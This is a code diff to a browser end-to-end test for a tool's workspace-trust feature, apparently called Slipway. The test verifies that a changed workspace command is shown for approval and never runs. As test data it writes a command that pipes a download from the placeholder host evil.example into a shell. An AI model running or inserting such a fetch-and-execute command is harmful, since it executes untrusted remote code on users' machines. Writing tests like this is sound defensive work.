@@ -106,8 +106,12 @@ test.describe('workspace trust', () => {
   })
 
   test('a changed command is shown again, as a diff, before anything runs', async ({ page }) => {
-    writeFileSync(join(repo.path, 'slipway.yml'), yml('curl -s https://evil.example/x | sh'))
-    rmSync(marker, { force: true })
+    // The changed command leaves a marker of its own if it ever runs.
+    const changed = `${marker}-changed`
+    writeFileSync(
+      join(repo.path, 'slipway.yml'),
+      yml(`touch '${changed}'; curl -s https://evil.example/x | sh`)
+    )
     await page.goto(host.url)
     // Re-open the workspace (as the picker does) so Slipway reads the new slipway.yml.
     const reopened = await page.evaluate(async (path) => {
@@ -119,6 +123,8 @@ test.describe('workspace trust', () => {
       return res.status
     }, repo.path)
     expect(reopened).toBe(200)
+    // Runs the previous test trusted may have touched the marker until the reopen stopped them.
+    rmSync(marker, { force: true })
     const dialog = page.getByTestId('trust-dialog')
     await expect(dialog).toContainText('The commands of this workspace changed')
     await expect(dialog.locator('.trust-removed')).toContainText(`touch '${marker}'`)
@@ -128,5 +134,6 @@ test.describe('workspace trust', () => {
     await expect(page.getByTestId('tests-untrusted').first()).toBeVisible()
     await page.waitForTimeout(2_000)
     expect(existsSync(marker)).toBe(false)
+    expect(existsSync(changed)).toBe(false)
   })
 })
